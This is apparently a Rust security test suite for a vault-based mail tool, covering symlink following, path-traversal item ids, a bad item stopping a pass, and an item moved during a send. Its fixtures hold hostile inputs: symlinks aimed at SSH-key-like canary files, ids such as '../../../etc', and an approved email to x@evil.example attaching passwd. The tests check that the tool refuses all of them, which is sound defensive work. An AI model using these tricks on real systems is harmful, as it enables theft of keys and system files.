//! The file system as a trust boundary (issue 8, findings 8 to 11): links in the vault are
//! never followed, ids never reach a path unchecked, one bad item never stops a pass, and a
//! pass rewrites or moves only the file it read.

use crate::support::approved::approved_replies;
use crate::support::smtp::SmtpServer;
use crate::support::tree::tree;
use crate::support::{TestEnv, files_under};
use std::fs;
use std::os::unix::fs::symlink;
use std::path::{Path, PathBuf};
use std::time::SystemTime;

/// The secret the canary files hold: it must never show up in the vault or in a mail.
const CANARY: &str = "CANARY-7f3a-do-not-leak";

/// Every entry under the canary folder (folders too, by relative path) with its bytes and
/// mtime, and the folder's own mtime.
type Snapshot = (SystemTime, Vec<(String, Vec<u8>, (i64, i64))>);

/// A folder outside the vault with a secret file and a `keys/` folder, and what it held.
struct Canary {
    dir: PathBuf,
    before: Snapshot,
}

impl Canary {
    fn plant(env: &TestEnv) -> Canary {
        let dir = env.dir.path().join("outside");
        fs::create_dir_all(dir.join("keys")).unwrap();
        fs::write(dir.join("secret.txt"), format!("{CANARY}\n")).unwrap();
        fs::write(dir.join("keys/id_rsa"), format!("-----KEY----- {CANARY}\n")).unwrap();
        // An item-shaped file, for links planted where items are read.
        fs::write(
            dir.join("item.md"),
            format!("---\nid: linked\nkind: file\ndomain: general\n---\n{CANARY}\n"),
        )
        .unwrap();
        let before = Canary::snapshot(&dir);
        Canary { dir, before }
    }

    /// What the canary folder `dir` holds now.
    fn snapshot(dir: &Path) -> Snapshot {
        let entries = tree(dir, |_| true)
            .into_iter()
            .map(|(rel, node)| (rel, node.bytes, node.mtime))
            .collect();
        (fs::metadata(dir).unwrap().modified().unwrap(), entries)
    }

    /// Nothing outside the vault was written, and the secret is in no vault file.
    fn assert_untouched(&self, env: &TestEnv, what: &str) {
        assert_eq!(
            Canary::snapshot(&self.dir),
            self.before,
            "{what}: the canary folder changed"
        );
        for f in files_under(&env.vault) {
            let bytes = fs::read(&f).unwrap();
            assert!(
                !String::from_utf8_lossy(&bytes).contains(CANARY),
                "{what}: the canary secret leaked into {}",
                f.display()
            );
        }
    }
}

/// Replaces the vault folder `rel` (if any) by a link to `target`.
fn link_folder(env: &TestEnv, rel: &str, target: &Path) {
    let p = env.path(rel);
    if p.exists() {
        fs::remove_dir_all(&p).unwrap();
    }
    symlink(target, &p).unwrap();
}

/// Live sending through `server`.
fn go_live(env: &TestEnv, server: &SmtpServer) {
    env.config(&format!(
        "execution:\n  dry_run: false\n{}",
        server.config("none", false)
    ));
}

/// Adds `attachments: [names]` to the first action of an item, as an owner's edit would.
fn attach(env: &TestEnv, rel: &str, name: &str) {
    let text = env.read(rel);
    let text = text.replacen(
        "  in_reply_to:",
        &format!("  attachments:\n  - {name}\n  in_reply_to:"),
        1,
    );
    assert!(text.contains(name), "{text}");
    fs::write(env.path(rel), text).unwrap();
}

const PASSES: &[&[&str]] = &[
    &["init", "VAULT"],
    &["process-inbox"],
    &["plan"],
    &["execute-approved", "--dry-run"],
    &["execute-approved"],
    &["status"],
];

// Finding 8: `Inbox/` replaced by a link to `~/.ssh` moved the owner's keys into the vault
// and copied them into item bodies; `Dashboard.md` linked to a key file published the key;
// a link inside `Attachments/<id>/` mailed `/etc/passwd`. Git stores links, so sync
// delivers them. This walks every command over a vault with links planted at every stage
// folder, `Dashboard.md`, `Updates/`, `Attachments/<id>/` and `Plans/`, and checks that
// nothing outside the vault is read or written.
#[test]
fn links_planted_anywhere_in_the_vault_are_never_followed() {
    let server = SmtpServer::start("plain", &[]);
    let mut env = TestEnv::new();
    let canary = Canary::plant(&env);
    let ids = approved_replies(&env, 3, false);
    go_live(&env, &server);
    env.write(
        "Inbox/left.eml",
        "From: x@y.example\nSubject: hi\n\nhello\n",
    );

    // A folder of the layout that is a link: every command refuses the vault (exit 78)
    // naming the folder, and touches nothing.
    for rel in [
        "Inbox",
        "Needs_Action",
        "Needs_Action/general",
        "In_Progress/local",
        "Pending_Approval/general",
        "Approved",
        "Rejected",
        "Done",
        "Plans",
        "Plans/general",
        "Updates",
        "Attachments",
        "Logs",
    ] {
        // The real folder is kept aside, then put back.
        let aside = env.dir.path().join("aside");
        fs::rename(env.path(rel), &aside).unwrap();
        symlink(&canary.dir, env.path(rel)).unwrap();
        for args in PASSES {
            let vault = env.vault.to_str().unwrap();
            let args: Vec<&str> = args
                .iter()
                .map(|a| if *a == "VAULT" { vault } else { a })
                .collect();
            let r = env.run(&args);
            assert_eq!(r.code, 78, "{rel}: aie {args:?}: {r:?}");
            assert!(
                r.stderr.contains(&format!("`{rel}` is a symbolic link")),
                "{rel}: aie {args:?}: {r:?}"
            );
        }
        canary.assert_untouched(&env, rel);
        fs::remove_file(env.path(rel)).unwrap();
        fs::rename(&aside, env.path(rel)).unwrap();
    }
    assert!(server.messages().is_empty());

    // Files and per-item folders that are links: each is refused with its path named, the
    // rest of the pass goes on (exit 1), and the good item is sent.
    let secret = canary.dir.join("secret.txt");
    fs::remove_file(env.path("Dashboard.md")).unwrap();
    symlink(canary.dir.join("keys/id_rsa"), env.path("Dashboard.md")).unwrap();
    fs::remove_file(env.path("Company_Handbook.md")).unwrap();
    symlink(&secret, env.path("Company_Handbook.md")).unwrap();
    symlink(&secret, env.path("Updates/local.md")).unwrap();
    // An item file that is a link, in Approved/ and in Needs_Action/.
    symlink(canary.dir.join("item.md"), env.path("Approved/linked.md")).unwrap();
    symlink(
        canary.dir.join("item.md"),
        env.path("Needs_Action/general/linked2.md"),
    )
    .unwrap();
    // A drop that is a link.
    symlink(&secret, env.path("Inbox/keys.txt")).unwrap();
    // Item 0 attaches `secret.txt` from an `Attachments/<id>/` that is a link; item 1 a file
    // that is a link inside a real `Attachments/<id>/`; item 2 is good.
    attach(&env, &format!("Approved/{}.md", ids[0]), "secret.txt");
    link_folder(&env, &format!("Attachments/{}", ids[0]), &canary.dir);
    attach(&env, &format!("Approved/{}.md", ids[1]), "id_rsa");
    symlink(
        canary.dir.join("keys/id_rsa"),
        env.path(&format!("Attachments/{}/id_rsa", ids[1])),
    )
    .unwrap();
    // The plan of a new item is a link.
    env.write(
        "Inbox/new.eml",
        "From: New <new@client.example>\nSubject: Price?\nMessage-ID: <n@c.example>\n\nCan you send me the price list?\n",
    );

    let r = env.run(&["process-inbox"]);
    assert_eq!(r.code, 1, "{r:?}");
    assert!(r.stderr.contains("Inbox/keys.txt"), "{r:?}");
    assert!(r.stderr.contains("Dashboard.md"), "{r:?}");
    canary.assert_untouched(&env, "process-inbox");
    let new_id = env
        .items_in("Needs_Action/general")
        .into_iter()
        .find(|n| {
            env.read(&format!("Needs_Action/general/{n}"))
                .contains("inbox:new.eml")
        })
        .unwrap()
        .trim_end_matches(".md")
        .to_string();
    let plan_rel = format!("Plans/general/{new_id}.plan.md");
    symlink(&secret, env.path(&plan_rel)).unwrap();

    let r = env.run(&["plan"]);
    assert_eq!(r.code, 1, "{r:?}");
    assert!(r.stderr.contains("linked2.md"), "{r:?}");
    assert!(r.stderr.contains("Company_Handbook.md"), "{r:?}");
    assert!(r.stderr.contains(&plan_rel), "{r:?}");
    assert_eq!(env.where_is(&new_id), ["In_Progress/local"]);
    canary.assert_untouched(&env, "plan");

    let r = env.run(&["execute-approved", "--dry-run"]);
    assert_eq!(r.code, 1, "{r:?}");
    assert!(r.stderr.contains("`Approved/linked.md`"), "{r:?}");
    assert!(r.stderr.contains("is a symbolic link"), "{r:?}");
    canary.assert_untouched(&env, "execute-approved --dry-run");

    // (A problem already reported is not repeated on stderr: the link was named above.)
    let r = env.run(&["execute-approved"]);
    assert_eq!(r.code, 1, "{r:?}");
    assert!(
        r.stderr
            .contains(&format!("`Attachments/{}` is a symbolic link", ids[0])),
        "{r:?}"
    );
    assert!(r.stderr.contains("symbolic link"), "{r:?}");
    assert_eq!(env.where_is(&ids[2]), ["Done"], "the good item was sent");
    let got = server.messages();
    assert_eq!(got.len(), 1, "only the good item went out");
    assert!(!got[0].eml.contains(CANARY));
    assert!(!got[0].eml.contains("KEY"));
    for id in &ids[..2] {
        assert_eq!(env.where_is(id), ["Pending_Approval/general"], "{id}");
    }
    canary.assert_untouched(&env, "execute-approved");

    let r = env.run(&["status"]);
    assert!(r.code == 0 || r.code == 1, "{r:?}");
    assert!(!r.stdout.contains(CANARY));
    // A draft_only agent writes Updates/local.md: never through the link.
    env.env("AIE_MODE", "draft_only");
    env.write("Inbox/another.txt", "a note for the cloud agent");
    let r = env.run(&["process-inbox"]);
    assert!(r.stderr.contains("Updates/local.md"), "{r:?}");
    canary.assert_untouched(&env, "draft_only process-inbox");
    assert!(server.messages().len() == 1);
    // The audit log is never appended through a link either.
    let day = env.path("Logs/2026-11-23.jsonl");
    fs::remove_file(&day).unwrap();
    symlink(&secret, &day).unwrap();
    env.write("Inbox/last.txt", "one more note");
    let r = env.run(&["process-inbox"]);
    assert_ne!(r.code, 0, "{r:?}");
    assert!(r.stderr.contains("Logs/2026-11-23.jsonl"), "{r:?}");
    canary.assert_untouched(&env, "audit log");
    // The links are where they were: aie replaced none of them.
    for rel in ["Dashboard.md", "Updates/local.md", "Company_Handbook.md"] {
        assert!(
            fs::symlink_metadata(env.path(rel))
                .unwrap()
                .file_type()
                .is_symlink(),
            "{rel}"
        );
    }
}

// Finding 9: an item with `id: ../../../x/pwned` made `plan` write `x/pwned.plan.md`
// outside the vault, and `id: ../../../etc` with `attachments: [passwd]` mailed
// `/etc/passwd`. Such an item is now refused where it is read, and stays where it was.
#[test]
fn an_id_that_would_leave_the_vault_is_refused_where_the_item_is_read() {
    let server = SmtpServer::start("plain", &[]);
    let env = TestEnv::new();
    let ids = approved_replies(&env, 1, false);
    go_live(&env, &server);
    env.write(
        "Needs_Action/general/pwned.md",
        "---\nid: ../../../x/pwned\nkind: file\ndomain: general\n---\nCan you send me the price list?\n",
    );
    env.write(
        "Approved/etc.md",
        "---\nid: ../../../etc\nkind: email\ndomain: email\nstatus: approved\nactions:\n- kind: send_email\n  to: [x@evil.example]\n  subject: s\n  body: b\n  attachments: [passwd]\n---\n",
    );
    let r = env.run(&["plan"]);
    assert_eq!(r.code, 1, "{r:?}");
    assert!(r.stderr.contains("not a safe id"), "{r:?}");
    assert!(r.stderr.contains("pwned.md"), "{r:?}");
    assert!(
        !env.dir.path().join("x").exists(),
        "nothing outside the vault"
    );
    assert!(!env.vault.join("x").exists());
    assert_eq!(env.items_in("Needs_Action/general"), ["pwned.md"]);
    let r = env.run(&["execute-approved"]);
    assert_eq!(r.code, 1, "{r:?}");
    assert!(r.stderr.contains("Approved/etc.md"), "{r:?}");
    assert!(r.stderr.contains("not a safe id"), "{r:?}");
    // The bad item stays where it was; the good one went out, and nothing else did.
    assert!(env.items_in("Approved").contains(&"etc.md".to_string()));
    assert_eq!(env.where_is(&ids[0]), ["Done"]);
    let got = server.messages();
    assert_eq!(got.len(), 1);
    assert!(!got[0].eml.contains("root:"));
}

// Finding 10: an item in `Approved/` whose name already exists in `Done/` (or whose id is too
// long for a file name) made every later pass fail before reaching the other items: a
// policy-approved mail never went out, a good item stayed in `In_Progress/`.
#[test]
fn one_bad_item_is_reported_and_the_pass_goes_on() {
    let server = SmtpServer::start("plain", &[]);
    let env = TestEnv::new();
    let ids = approved_replies(&env, 2, false);
    go_live(&env, &server);
    let (first, second) = if ids[0] < ids[1] {
        (&ids[0], &ids[1])
    } else {
        (&ids[1], &ids[0])
    };
    // The first item (by name) already has a namesake in Done/.
    env.write(
        &format!("Done/{first}.md"),
        "---\nid: other\n---\nan older item\n",
    );
    let r = env.run(&["execute-approved"]);
    assert_eq!(r.code, 1, "{r:?}");
    assert!(r.stderr.contains(&format!("Approved/{first}.md")), "{r:?}");
    assert!(r.stderr.contains("already exists"), "{r:?}");
    assert_eq!(env.where_is(second), ["Done"], "the pass went on");
    assert_eq!(server.messages().len(), 2);
    // The next pass reports it again and sends nothing twice.
    let r = env.run(&["execute-approved"]);
    assert!(r.code == 0 || r.code == 1, "{r:?}");
    assert_eq!(server.messages().len(), 2);
    assert_eq!(env.where_is(first), ["Approved", "Done"]);

    // An id too long for a file name: reported, and the good item is planned.
    let long = "a".repeat(300);
    env.write(
        "Needs_Action/general/long.md",
        format!("---\nid: {long}\nkind: file\ndomain: general\n---\nPlease pay the invoice\n"),
    );
    env.drop_file(
        "good.eml",
        "From: G <g@client.example>\nSubject: Q\nMessage-ID: <g@c.example>\n\nCan you send me the price list?\n",
    );
    env.ok(&["process-inbox"]);
    let r = env.run(&["plan"]);
    assert_eq!(r.code, 1, "{r:?}");
    assert!(r.stderr.contains("long.md"), "{r:?}");
    assert!(env.items_in("In_Progress/local").is_empty());
    assert_eq!(env.items_in("Pending_Approval/general").len(), 1);
    assert_eq!(env.items_in("Needs_Action/general"), ["long.md"]);
}

// Finding 11: the owner moved an item from `Approved/` to `Rejected/` while a slow send was
// in flight; the pass rewrote it at its old path and moved it to `Done/`, so it was in two
// stage folders. The SMTP server here makes that move while aie waits for its reply.
#[test]
fn an_item_the_owner_moves_during_its_send_stays_where_the_owner_put_it() {
    let env = TestEnv::new();
    let ids = approved_replies(&env, 1, false);
    let id = &ids[0];
    let from = env.path(&format!("Approved/{id}.md"));
    let to = env.path(&format!("Rejected/{id}.md"));
    let server = SmtpServer::start(
        "plain",
        &[
            "--on-data-rename",
            from.to_str().unwrap(),
            to.to_str().unwrap(),
        ],
    );
    go_live(&env, &server);
    let r = env.run(&["execute-approved"]);
    assert_eq!(r.code, 1, "{r:?}");
    assert_eq!(server.messages().len(), 1, "the send happened");
    assert_eq!(
        env.where_is(id),
        ["Rejected"],
        "one copy, where the owner put it"
    );
    assert!(r.stderr.contains("was moved away"), "{r:?}");
    assert!(r.stderr.contains(&format!("Rejected/{id}.md")), "{r:?}");
    let audit = env.audit();
    assert!(
        audit
            .iter()
            .any(|a| a["action"] == "send_email" && a["result"] == "ok")
    );
    assert!(
        audit
            .iter()
            .any(|a| a["action"] == "moved_away" && a["item"] == id.as_str())
    );
    assert!(env.temp_files().is_empty());
    // Nothing is sent again, and the owner's decision stands.
    let r = env.run(&["execute-approved"]);
    assert_eq!(r.code, 0, "{r:?}");
    assert_eq!(server.messages().len(), 1);
    assert_eq!(env.where_is(id), ["Rejected"]);
}
